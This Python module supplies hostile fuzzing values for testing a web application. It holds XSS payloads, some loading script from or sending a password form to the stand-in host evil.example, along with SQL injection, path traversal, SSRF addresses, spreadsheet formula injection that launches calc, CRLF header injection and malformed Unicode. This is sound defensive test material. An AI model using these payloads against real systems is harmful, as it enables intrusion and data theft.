"""Hostile values: what somebody who means harm, or a broken program, puts into a field.

Whatever would come alive in a page carries MARK, so that an answer in which it did is known.
"""

from __future__ import annotations

import random
from collections.abc import Callable

MARK = "mkzq"

type Value = str | bytes

# Tags, attributes and addresses that a page must show as text or not at all.
ALIVE = [
    f"<script>{MARK}=1</script>",
    f"</script><script>{MARK}=1</script>",
    f"</title></textarea></style><script src=//evil.example/{MARK}.js></script>",
    f'"><img src=x onerror={MARK}()>',
    f"'><svg/onload={MARK}()>",
    f'" autofocus onfocus={MARK}() x="',
    f"' onmouseover='{MARK}()",
    f"<{MARK} {MARK}=1>",
    f"<iframe srcdoc='<b>{MARK}'></iframe>",
    f"<math><mtext><table><mglyph><style><img title=</style><img src=x onerror={MARK}()>",
    f"<svg><animate onbegin={MARK}() attributeName=x></svg>",
    f"<form action=//evil.example/{MARK}><input name=password>",
    f"<base href=//evil.example/{MARK}/>",
    f"<meta http-equiv=refresh content='0;//evil.example/{MARK}'>",
    f"<!--{MARK}--><![CDATA[<b {MARK}>]]><?{MARK}?>",
    f"&lt;script&gt;{MARK}()&lt;/script&gt;&#60;{MARK}&#62;",
    f"javascript:{MARK}()//",
    f"JaVaScRiPt&colon;{MARK}()",
    f" \x01java\tscript:{MARK}()",
    f"data:text/html,<script>{MARK}()</script>",
    f"//evil.example/{MARK}",
    f"/\\evil.example/{MARK}",
    f"https:evil.example/{MARK}",
    f"[{MARK}](javascript:{MARK}()) ![x](//evil.example/{MARK}.png)",
    f"[a](data:text/html;base64,{MARK}) <javascript:{MARK}> [b]: javascript:{MARK}",
    f"[[{MARK}|<b {MARK}>]] [@{MARK}, <i>] [@a\x00b] [[]] [@]",
    f"`<b {MARK}>` ~~~{MARK}\n<script>{MARK}</script>\n~~~",
    f"| <td {MARK}> | a |\n|---|:-:|\n| {MARK} | `|` |",
    f"{{{{ {MARK} }}}} {{% load {MARK} %}} ${{{MARK}}} <%= {MARK} %> #{{{MARK}}}",
    f'=HYPERLINK("http://evil.example/{MARK}")',
    f"@SUM({MARK})",
    f"+cmd|' /C calc'!{MARK}",
    f"-2+3+cmd|{MARK}",
    f"\t={MARK}",
    f"x\r\nSet-Cookie: {MARK}=1\r\n\r\n<script>{MARK}()</script>",
    f"END:VEVENT\r\nATTENDEE:{MARK}\nBEGIN:VALARM",
    f"]]></summary><script>{MARK}</script>",
    f'{{"@context":"{MARK}","a":"</script>"}}',
]

# Letters that break what reads them carelessly.
ODD: list[Value] = [
    "",
    " ",
    "\x00",
    "a\x00b",
    "\x1b[31mred\x1b[0m",
    "\x7f\x80\x9f",
    "\ufffe\uffff\ufdd0",
    "\ud800",
    "\udfff\ud83d",
    "a\ud83d",
    "\u202eevil\u202c\u2066\u2067",
    "\u200b\u200d\ufeff\u2060\u00ad",
    "Z" + "\u0334\u0335\u0336" * 60,
    "\u0e01" + "\u0e49" * 500,
    "\U000e0041\U000e007f",
    "ﷺ" * 50,
    "İıſK",
    "ß" * 100,
    "e\u0301" * 80,
    "\u1100" * 300,
    "🏴‍☠️" * 100,
    "𝕏𝒽" * 50,
    "²³¹⁄₂",
    "٣٤",
    "\u2028\u2029",
    b"\xff\xfe",
    b"\xed\xa0\x80",
    b"\xc0\xaf..",
    b"\xf8\x88\x80\x80\x80",
    b"%",
    b"%zz",
    b"%u0041",
]

# What databases, searches and file systems understand.
MEANT = [
    "' OR 1=1 --",
    '"; DROP TABLE articles_article; --',
    "') UNION SELECT 1,2,3 --",
    "\\",
    "%",
    "_%",
    "*",
    '"',
    '""',
    "NEAR(a b, 3)",
    "a AND OR NOT",
    "^a",
    "a*b*",
    "title:a",
    "{a b} : c",
    "(((((",
    "-",
    "a:*",
    "!a & | b",
    "<->",
    "a <2> b",
    "''':A",
    "pg_sleep(9)",
    "c++",
    "-x",
    "AND",
    '"a',
    'a"b""c',
    "..%2f..%2f",
    "../../../../etc/passwd",
    "..\\..\\win.ini",
    "....//....//",
    "/etc/passwd\x00.png",
    "file:///etc/passwd",
    "http://169.254.169.254/",
    "http://127.0.0.1:1/",
    "http://[::1",
    "//",
    "?",
    "#",
    "a/b",
    ".",
    "..",
    "con",
    "a" * 160,
    "é" * 160,
    "A",
    "admin",
    "a.json",
    "a..b",
    "1..2",
    "%2e%2e",
    "null",
    "None",
    "True",
    "undefined",
    "NaN",
    "Infinity",
    "[]",
    "{}",
    "[object Object]",
    "on",
]

NUMBERS = [
    "0",
    "-1",
    "-0",
    "1.5",
    "1e400",
    "-1e9",
    "0x10",
    "9" * 19,
    "9" * 40,
    "-" + "9" * 19,
    "9223372036854775807",
    "9223372036854775808",
    "2147483648",
    "99999",
    "01",
    "+1",
    "1_000",
    " 1 ",
    "1;2",
    "٣",
    "²",
    "9" * 5000,
]

DATES = [
    "2012",
    "-0043~",
    "194X",
    "2012/..",
    "../..",
    "/",
    "Y-300000000",
    "Y" + "9" * 40,
    "Y1E400",
    "Y-1e9999",
    "9" * 30,
    "-" + "9" * 30,
    "2012-13-45",
    "0000-00-00",
    "XXXX",
    "2012/2011",
    "1/2/3",
    "[2012..2015]",
    "{1,2,..}",
    "300 million years ago",
    "9" * 400 + " years ago",
    "circa circa 44 BC",
    "between 1 and",
    "2012-06-31",
    "2012-21",
    "2012-06-12T25:61:61Z",
    "?" * 200,
    "~" * 200,
    "2012?~%",
    "12. Jahrhundert v. Chr.",
    "1" + " 1" * 500,
    "the " * 300 + "1900s",
    "January " * 200,
    "5 BC to 3 AD to 4 BC",
    "1e9",
    "½",
]

DEEP: list[Callable[[int], str]] = [
    lambda n: ">" * n,
    lambda n: "> " * n + "x",
    lambda n: "[" * n,
    lambda n: "[" * n + "]" * n,
    lambda n: "![" * n,
    lambda n: "[a](" * n,
    lambda n: "*" * n + "a",
    lambda n: "**a *b " * n,
    lambda n: "_a __b " * n,
    lambda n: "`" * n + "a" + "`" * (n - 1),
    lambda n: "".join("`" * (i % 80) + "a" for i in range(n // 20)),
    lambda n: "- " * n + "x",
    lambda n: "".join(f"{'  ' * i}- x\n" for i in range(min(n, 200))),
    lambda n: "1. " * n,
    lambda n: "#" * n,
    lambda n: "<" * n,
    lambda n: "<!--" * n,
    lambda n: "&" * n,
    lambda n: "&#" + "9" * n + ";",
    lambda n: "[[" * n,
    lambda n: "[[a|" * n + "]]" * n,
    lambda n: "[@a" * n,
    lambda n: "[@a, p. 1]" * (n // 10),
    lambda n: "|" * n + "\n" + "|-" * n,
    lambda n: "a\n" * n,
    lambda n: "\n" * n,
    lambda n: "\\" * n,
    lambda n: "http://a.example/" * (n // 10),
    lambda n: "www." * n,
    lambda n: "a@b." * n,
    lambda n: "[a]: b\n" * (n // 5) + "[a]",
    lambda n: "[" * n + "a" + "](b)" * n,
    lambda n: '{"a":' * n,
    lambda n: "(" * n,
    lambda n: "{{" * n,
    lambda n: "a" * n,
    lambda n: "a " * n,
    lambda n: "🪨" * n,
]


def alive(dice: random.Random) -> str:
    """Something that must not come alive, sometimes inside other text."""
    text = dice.choice(ALIVE)
    if dice.random() < 0.2:
        text = dice.choice(ALIVE) + dice.choice(["", " ", "\n\n", "\u202e"]) + text
    return f"> - a {text}" if dice.random() < 0.1 else text


def value(dice: random.Random) -> Value:
    """Any hostile value."""
    turn = dice.random()
    if turn < 0.4:
        return alive(dice)
    if turn < 0.55:
        return dice.choice(ODD)
    if turn < 0.7:
        return dice.choice(MEANT)
    if turn < 0.8:
        return dice.choice(NUMBERS)
    if turn < 0.9:
        return dice.choice(DATES)
    return dice.choice(DEEP)(dice.choice([10, 300, 2000, 8000]))


def as_bytes(given: Value) -> bytes:
    """The bytes of a value; half of a surrogate pair becomes what careless programs send for it."""
    return given if isinstance(given, bytes) else given.encode("utf-8", "surrogatepass")
